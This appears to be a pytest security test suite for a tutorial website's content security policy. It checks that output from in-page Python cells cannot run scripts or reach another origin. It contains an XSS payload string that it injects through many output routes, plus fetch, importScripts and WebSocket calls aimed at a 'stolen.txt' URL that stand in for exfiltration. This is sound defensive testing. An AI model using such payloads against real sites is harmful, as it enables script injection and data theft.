"""The site under its content security policy, and what attacks come to."""

import pytest

from site_tests.browser.violations import WATCH

PAYLOAD = "<img src=x onerror=window.pwned=1><script>window.pwned=1</script>"
STOLEN = "stolen.txt"

# Each tries to run a script in the page, by a route that shows text.
ROUTES = {
    "printed": f"print({PAYLOAD!r})",
    "stderr": f"import sys\nprint({PAYLOAD!r}, file=sys.stderr)",
    "repr": (
        f"class Evil:\n    def __repr__(self): return {PAYLOAD!r}\nEvil()"
    ),
    "html repr": (
        f"class Evil:\n    def _repr_html_(self): return {PAYLOAD!r}\nEvil()"
    ),
    "exception": f"raise ValueError({PAYLOAD!r})",
    "exception type": f"raise type({PAYLOAD!r}, (Exception,), {{}})",
    "file name": f"exec(compile('1/0', {PAYLOAD!r}, 'exec'))",
    "label": (
        "from tutorial_kernels.page import track\n"
        f"for _ in track(range(3), label={PAYLOAD!r}): pass"
    ),
    "plot": (
        "from tutorial_kernels.page import plot\n"
        f"for step in range(3): plot(step, **{{{PAYLOAD!r}: step}})"
    ),
    "image words": (
        "import numpy as np\nfrom tutorial_kernels.page import show\n"
        f"show(np.zeros((2, 8, 8)), labels=[{PAYLOAD!r}] * 2)"
    ),
}


@pytest.fixture
def abroad(host):
    """Another origin, with a server that notes whoever comes."""
    return host.url.replace("127.0.0.1", "localhost") + STOLEN


@pytest.fixture
def watched(browser, host, make_cells):
    page = browser.new_page()
    page.add_init_script(WATCH)
    cells = make_cells(page, host)
    cells.open("other/")
    yield cells
    assert cells.foreign == []
    page.close()


def test_the_pages_run_without_a_violation(watched):
    assert "Content-Security-Policy" in watched.page.content()
    assert watched.run("alone", "print(1 + 1)") == "2\n"
    for title, name in (("Cells under test", "train"), ("Another page", "")):
        watched.page.locator(".md-sidebar").get_by_role(
            "link", name=title, exact=True
        ).first.click()
        watched.page.wait_for_selector(f"#{name or 'alone'} .cell-bar")
        if name:
            watched.run(name)
    assert watched.page.evaluate("window.violations") == []
    assert watched.errors == []


@pytest.mark.parametrize("code", ROUTES.values(), ids=ROUTES.keys())
def test_what_a_cell_shows_is_never_run(watched, code):
    watched.run("alone", code)
    watched.page.wait_for_timeout(100)
    assert watched.page.evaluate("window.pwned") is None
    output = watched.page.locator("#alone + .cell-output")
    assert output.locator("script, img[onerror]").count() == 0
    assert watched.page.evaluate("window.violations") == []


def test_python_reaches_neither_scripts_nor_other_origins(
    watched, host, abroad
):
    code = f"""
import js, pyodide_js
from pyodide.code import run_js
from pyodide.http import pyfetch
def attempt(name, call):
    try:
        call()
        print(name, "came through")
    except BaseException as error:
        print(name, "failed")
attempt("eval", lambda: run_js("1 + 1"))
attempt("fetch", lambda: js.fetch({abroad!r}))
attempt("import", lambda: js.importScripts({abroad!r}))
attempt("socket", lambda: js.WebSocket.new({abroad!r}))
try:
    await pyfetch({abroad!r})
    print("pyfetch came through")
except BaseException as error:
    print("pyfetch failed")
"""
    text = watched.run("alone", code)
    assert text.split("\n")[:-1] == [
        f"{name} failed"
        for name in ("eval", "fetch", "import", "socket", "pyfetch")
    ]
    assert watched.run("alone", "print('alive')") == "alive\n"
    assert STOLEN not in host.asked
    watched.foreign.clear()  # tried, and stopped before it left
    watched.errors.clear()


def test_a_script_of_the_page_cannot_be_made_from_text(watched, host, abroad):
    """Were a way in found, it would still lead nowhere."""
    tries = watched.page.evaluate(
        """async (abroad) => {
          const results = {};
          setTimeout('window.pwned = 1');
          const inline = document.createElement('script');
          inline.textContent = 'window.pwned = 1';
          document.body.append(inline);
          document.body.insertAdjacentHTML('beforeend',
            '<img src="x" onerror="window.pwned = 1">');
          results.fetch = await fetch(abroad).then(() => 1, () => null);
          await new Promise((resolve) => setTimeout(resolve, 300));
          results.pwned = window.pwned ?? null;
          return results;
        }""",
        abroad,
    )
    assert tries == {"fetch": None, "pwned": None}
    kinds = {v.split()[0] for v in watched.page.evaluate("window.violations")}
    assert "connect-src" in kinds
    assert any(kind.startswith("script-src") for kind in kinds)
    assert STOLEN not in host.asked
    watched.foreign.clear()  # tried, and stopped before it left


def test_every_page_of_the_course_has_it(built_site):
    """That each keeps to it is seen in test_every_page.py."""
    pages = sorted(built_site.rglob("*.html"))
    assert len(pages) > 5
    for path in pages:
        assert "Content-Security-Policy" in path.read_text(), path
